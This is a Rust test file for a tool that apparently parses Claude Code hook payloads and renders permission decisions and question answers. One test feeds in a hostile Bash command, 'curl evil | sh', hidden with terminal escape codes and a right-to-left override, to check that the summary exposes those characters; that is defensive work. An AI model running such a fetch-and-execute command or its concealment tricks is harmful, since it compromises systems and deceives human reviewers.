//! Parsing and rendering tests, on payloads captured from the real Claude Code 2.1.332.

use gatehouse_core::{
    Answer, HoldMode, HookEvent, Observation, PromptKind, QuestionResponse, Verdict,
};
use gatehouse_harness::events::testing::{assert_permission_prompt, held_as};
use insta::assert_snapshot;
use serde_json::json;

use super::*;
use crate::verdict;

macro_rules! fixture {
    ($name:literal) => {
        gatehouse_harness::captured_payload!("claude-code-2.1.332", $name)
    };
}

fn held_prompt(stdin: &[u8]) -> NewPrompt {
    held_as(parse(stdin).unwrap(), HoldMode::UntilOutcome)
}

#[test]
fn a_bash_permission_request_is_a_permission_prompt() {
    let prompt = held_prompt(fixture!("PermissionRequest-Bash"));
    let session = "53b38252-9e2a-4e43-a58d-649c4916b5cd";
    assert_permission_prompt(&prompt, "claude", session, "Bash", "printf hi > hi.txt");
    assert_eq!(prompt.input["description"], "write hi");
    assert!(prompt.read_only_reason.is_none());
}

#[test]
fn a_write_permission_request_summarises_the_file() {
    let prompt = held_prompt(fixture!("PermissionRequest-Write"));
    assert_eq!(prompt.tool, "Write");
    assert_eq!(prompt.summary, "/home/dev/project/notes.txt");
}

#[test]
fn a_question_gets_stable_ids_and_its_options() {
    let prompt = held_prompt(fixture!("PermissionRequest-AskUserQuestion"));
    assert_eq!(prompt.kind, PromptKind::Question);
    assert_eq!(prompt.summary, "Which color?");
    let question = &prompt.questions[0];
    assert_eq!(
        (
            question.id.as_str(),
            question.text.as_str(),
            question.header.as_str(),
            question.multi
        ),
        ("q1", "Which color?", "Color", false)
    );
    let labels: Vec<&str> = question
        .options
        .iter()
        .map(|option| option.label.as_str())
        .collect();
    assert_eq!(labels, ["Red", "Blue"]);
    assert_eq!(question.options[1].description, "cool");
}

#[test]
fn two_questions_with_the_same_text_make_the_prompt_read_only() {
    let question = json!({"question": "Which?", "header": "H", "options": [{"label": "A", "description": ""}], "multiSelect": false});
    let stdin = json!({
        "session_id": "s", "cwd": "/p", "hook_event_name": "PermissionRequest", "tool_name": "AskUserQuestion",
        "tool_input": { "questions": [question.clone(), question] }
    });
    let prompt = held_prompt(stdin.to_string().as_bytes());
    assert!(prompt
        .read_only_reason
        .as_deref()
        .unwrap()
        .contains("share the text"));
}

#[test]
fn post_tool_use_settles_the_matching_permission_request() {
    for (request, finished) in [
        (
            &fixture!("PermissionRequest-Bash")[..],
            &fixture!("PostToolUse-Bash")[..],
        ),
        (
            &fixture!("PermissionRequest-Write")[..],
            &fixture!("PostToolUse-Write")[..],
        ),
        (
            &fixture!("PermissionRequest-AskUserQuestion")[..],
            &fixture!("PostToolUse-AskUserQuestion")[..],
        ),
    ] {
        let prompt = held_prompt(request);
        let HookEvent::Observe(Observation::ToolFinished {
            adapter,
            session,
            correlation,
        }) = parse(finished).unwrap()
        else {
            panic!("PostToolUse is an observation");
        };
        assert_eq!(
            (adapter.as_str(), session.as_str()),
            ("claude", prompt.session.as_str())
        );
        assert_eq!(correlation, prompt.correlation, "for {}", prompt.tool);
    }
}

#[test]
fn a_plan_approved_in_claudes_terminal_is_settled_by_its_post_tool_use_whatever_its_input() {
    let prompt = held_prompt(fixture!("PermissionRequest-ExitPlanMode"));
    assert!(prompt.input.get("plan").is_some(), "{:?}", prompt.input);
    // No PostToolUse of ExitPlanMode was captured: the Bash one, renamed, with the model's own
    // input (`{}`, as the end-to-end tests' model sends it) and with the plan the request had.
    let mut finished: Value = serde_json::from_slice(fixture!("PostToolUse-Bash")).unwrap();
    finished["session_id"] = json!(prompt.session);
    finished["tool_name"] = json!("ExitPlanMode");
    for input in [json!({}), prompt.input.clone()] {
        finished["tool_input"] = input;
        let HookEvent::Observe(Observation::ToolFinished { correlation, .. }) =
            parse(finished.to_string().as_bytes()).unwrap()
        else {
            panic!("PostToolUse is an observation");
        };
        assert_eq!(correlation, prompt.correlation);
    }
    // Another tool of the same session does not settle the plan.
    assert_ne!(correlation("Bash", &json!({})), prompt.correlation);
}

#[test]
fn a_different_command_does_not_correlate() {
    let prompt = held_prompt(fixture!("PermissionRequest-Bash"));
    assert_ne!(
        correlation(
            "Bash",
            &json!({"command": "printf bye > hi.txt", "description": "write hi"})
        ),
        prompt.correlation
    );
}

#[test]
fn stop_and_session_end_are_observations_and_the_rest_is_ignored() {
    assert!(matches!(
        parse(fixture!("Stop")).unwrap(),
        HookEvent::Observe(Observation::TurnEnded { .. })
    ));
    assert!(matches!(
        parse(fixture!("SessionEnd")).unwrap(),
        HookEvent::Observe(Observation::SessionEnded { .. })
    ));
    for ignored in [
        &fixture!("PreToolUse-Bash")[..],
        &fixture!("SessionStart")[..],
        &fixture!("UserPromptSubmit")[..],
        &fixture!("Notification-permission_prompt")[..],
    ] {
        assert_eq!(parse(ignored).unwrap(), HookEvent::Ignore);
    }
}

#[test]
fn input_that_is_not_an_event_is_an_error() {
    assert!(matches!(parse(b""), Err(ParseError::NotJson(_))));
    assert!(matches!(parse(b"hello"), Err(ParseError::NotJson(_))));
    assert!(matches!(parse(b"[1]"), Err(ParseError::NotAnEvent(_))));
    assert!(matches!(
        parse(b"{\"hook_event_name\":\"PermissionRequest\"}"),
        Err(ParseError::NotAnEvent(_))
    ));
    let no_tool =
        json!({"session_id": "s", "hook_event_name": "PermissionRequest", "tool_input": {}});
    assert!(
        matches!(parse(no_tool.to_string().as_bytes()), Err(ParseError::NotAnEvent(message)) if message.contains("tool_name"))
    );
}

#[test]
fn once_and_deny_render_as_permission_decisions() {
    let prompt = held_prompt(fixture!("PermissionRequest-Bash"));
    assert_snapshot!(verdict::render(&prompt, &Verdict(Answer::Once)), @r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}"#);
    assert_snapshot!(
        verdict::render(&prompt, &Verdict(Answer::Deny { message: Some("use make clean".into()) })),
        @r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"use make clean"}}}"#
    );
    let default = verdict::render(
        &prompt,
        &Verdict(Answer::Deny {
            message: Some("  ".into()),
        }),
    );
    assert!(default.contains(verdict::DEFAULT_DENY_MESSAGE), "{default}");
}

#[test]
fn answers_render_as_updated_input_keyed_by_question_text() {
    let prompt = held_prompt(fixture!("PermissionRequest-AskUserQuestion"));
    let responses = vec![QuestionResponse {
        question: "q1".into(),
        picks: vec!["Blue".into()],
        text: None,
    }];
    assert_snapshot!(
        verdict::render(&prompt, &Verdict(Answer::Answer { responses })),
        @r#"{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow","updatedInput":{"questions":[{"question":"Which color?","header":"Color","options":[{"label":"Red","description":"warm"},{"label":"Blue","description":"cool"}],"multiSelect":false}],"answers":{"Which color?":"Blue"}}}}}"#
    );
}

#[test]
fn multi_select_answers_join_labels_and_free_text() {
    let stdin = json!({
        "session_id": "s", "cwd": "/p", "hook_event_name": "PermissionRequest", "tool_name": "AskUserQuestion",
        "tool_input": { "questions": [
            {"question": "Toppings?", "header": "Pizza", "multiSelect": true,
             "options": [{"label": "Cheese", "description": ""}, {"label": "Olives", "description": ""}, {"label": "Basil", "description": ""}]},
            {"question": "Size?", "header": "Size", "multiSelect": false, "options": [{"label": "Large", "description": ""}]}
        ]}
    });
    let prompt = held_prompt(stdin.to_string().as_bytes());
    let responses = vec![
        QuestionResponse {
            question: "q1".into(),
            picks: vec!["Cheese".into(), "Basil".into()],
            text: Some("extra garlic".into()),
        },
        QuestionResponse {
            question: "q2".into(),
            picks: vec![],
            text: Some("medium, please".into()),
        },
    ];
    let rendered: serde_json::Value = serde_json::from_str(&verdict::render(
        &prompt,
        &Verdict(Answer::Answer { responses }),
    ))
    .unwrap();
    let updated = &rendered["hookSpecificOutput"]["decision"]["updatedInput"];
    assert_eq!(
        updated["answers"],
        json!({"Toppings?": "Cheese, Basil, extra garlic", "Size?": "medium, please"})
    );
    assert_eq!(
        updated["questions"], prompt.input["questions"],
        "the questions go back verbatim"
    );
}

#[test]
fn a_hostile_command_is_summarised_visibly_and_kept_exact_in_the_input() {
    let command = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\r\u{202e}  done\n";
    let stdin = json!({
        "session_id": "s", "cwd": "/p", "hook_event_name": "PermissionRequest", "tool_name": "Bash",
        "tool_input": { "command": command }
    });
    let prompt = held_prompt(stdin.to_string().as_bytes());
    assert_snapshot!(prompt.summary, @r"echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\r\u{202e} done\n");
    assert_eq!(prompt.input["command"], command, "the input stays exact");
}

#[test]
fn the_summary_of_a_large_input_reads_only_its_start() {
    let mut event: serde_json::Value =
        serde_json::from_slice(fixture!("PermissionRequest-Bash")).unwrap();
    event["tool_name"] = json!("mcp__files__put");
    event["tool_input"] = json!({ "a": "é".repeat(1_000_000), "b": 1 });
    let prompt = held_prompt(event.to_string().as_bytes());
    assert!(
        prompt.summary.starts_with("{\"a\":\"éé"),
        "{}",
        prompt.summary
    );
    assert!(prompt.summary.chars().count() <= SUMMARY_CHARS);
    assert_eq!(json_start(&json!({ "b": [1, 2] }), 100), "{\"b\":[1,2]}");
    assert_eq!(json_start(&json!({ "b": [1, 2] }), 5), "{\"b\":");
}
